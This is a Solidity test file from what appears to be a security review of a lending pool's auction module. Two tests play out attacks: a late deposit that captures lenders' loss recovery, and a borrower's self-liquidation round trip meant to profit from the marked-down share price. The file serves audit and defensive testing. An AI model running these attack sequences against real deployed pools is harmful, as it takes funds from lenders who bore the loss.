// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IDutchAuction} from "../../src/interfaces/IDutchAuction.sol";
import {ILendingPoolTypes} from "../../src/interfaces/ILendingPoolTypes.sol";
import {BaseTest} from "../utils/BaseTest.sol";

/// @notice Review of issue 14 (commit 134fb35), as an attacker runs it against the real pool and auction module.
/// The no-bid outcome is booked in full at auction start and every recovery is released over the unlock period, but
/// deposits are priced at that pessimistic share price: whoever deposits after the start (when the loss is booked)
/// and stays through the unlock gets its pro-rata share of a recovery that belongs to the lenders who bore the loss.
/// Each test asserts the safe behaviour, so it FAILS on 134fb35 (evidence for the lead).
contract LateDepositorCaptureTest is BaseTest {
    /// @dev Rounding the attacker may gain (virtual shares, a few operations).
    uint256 internal constant DUST = 10;

    address internal whale = makeAddr("whale");

    function setUp() public override {
        super.setUp();
        _setUpAuctionPool(address(weth));
    }

    /// @dev A whale deposits 10x the pool right after an auction starts (share price marked down by the whole frozen
    /// debt), a buyer pays the start price, and the whale redeems once the recovery has unlocked. It bore none of the
    /// loss, so it must not take any of the recovery.
    function test_attack_depositAfterStartCapturesPurchaseRecovery() public {
        uint256 lenderShares = pool.balanceOf(lender);
        (uint256 loanId, ILendingPoolTypes.Loan memory loan, IDutchAuction.Auction memory a) = _unhealthyAuction(1);

        uint256 stake = 10 * 100 ether;
        uint256 whaleShares = _deposit(whale, stake);

        _fundBuyer(buyer, a.startPrice);
        vm.prank(buyer);
        auction.buy(loanId, loan, a, a.startPrice);

        skip(pool.unlockPeriod());
        vm.prank(whale);
        uint256 out = pool.redeem(whaleShares, whale, whale);
        uint256 lenderValue = pool.convertToAssets(lenderShares);
        emit log_named_decimal_uint("whale profit", out > stake ? out - stake : 0, 18);
        emit log_named_decimal_uint("lender value after recovery", lenderValue, 18);
        assertLe(out, stake + DUST, "depositor who bore no loss took part of the recovery");
    }

    /// @dev The borrower as attacker: it borrows the maximum, lets its own loan pass maturity and grace, starts its
    /// auction itself, deposits a large stake at the marked-down price, repays its auction (debt plus penalty) and
    /// redeems after the unlock period. Its wealth (cash; it keeps the NFT either way) must not grow.
    function test_attack_borrowerSelfLiquidationRoundTrip() public {
        uint256 lenderShares = pool.balanceOf(lender);
        uint256 principal = _maxApeLoanAuction();
        uint256 stake = 10_000 ether;
        weth.mint(borrower, stake + 2 ether); // + what interest and the penalty cost it
        // Its wealth before it borrows: this cash and the NFT (which it still holds at the end).
        uint256 walletBefore = weth.balanceOf(borrower);
        (uint256 loanId, ILendingPoolTypes.Loan memory loan) = _borrowApe(borrower, 1, principal);
        uint256 lenderBefore = pool.convertToAssets(lenderShares);
        skip(33 days); // past maturity (30 days) and grace (2 days)

        vm.startPrank(borrower);
        (, loan) = auction.start(loanId, loan); // in the same block: start, deposit, repay in auction
        weth.approve(address(pool), type(uint256).max);
        uint256 shares = pool.deposit(stake, borrower);
        pool.repay(loanId, loan, type(uint256).max);
        vm.stopPrank();

        (uint256 lockedNow, uint256 until) = pool.lockedRecovery();
        emit log_named_decimal_uint("locked right after repayment", lockedNow, 18);
        emit log_named_uint("until - now", until - block.timestamp);
        emit log_named_decimal_uint("impairment", pool.impairment(), 18);
        emit log_named_decimal_uint("reserve", pool.reserve(), 18);
        emit log_named_decimal_uint("totalAssets", pool.totalAssets(), 18);
        skip(pool.unlockPeriod());
        emit log_named_decimal_uint("totalAssets after unlock", pool.totalAssets(), 18);
        vm.prank(borrower);
        pool.redeem(shares, borrower, borrower);
        uint256 walletAfter = weth.balanceOf(borrower);

        emit log_named_decimal_uint("principal borrowed", principal, 18);
        emit log_named_decimal_uint("wallet before", walletBefore, 18);
        emit log_named_decimal_uint("wallet after", walletAfter, 18);
        emit log_named_decimal_uint(
            "borrower net gain", walletAfter > walletBefore ? walletAfter - walletBefore : 0, 18
        );
        emit log_named_decimal_uint("lender before", lenderBefore, 18);
        emit log_named_decimal_uint("lender after", pool.convertToAssets(lenderShares), 18);
        assertEq(apes.ownerOf(1), borrower);
        assertLe(walletAfter, walletBefore + DUST, "self-liquidation round trip profits the borrower");
    }

    /// @dev Max principal against one ape on the auction terms (haircut 100 %, LTV 50 %).
    function _maxApeLoanAuction() internal pure returns (uint256) {
        return UNIT_PRICE * 5000 / 10_000;
    }
}
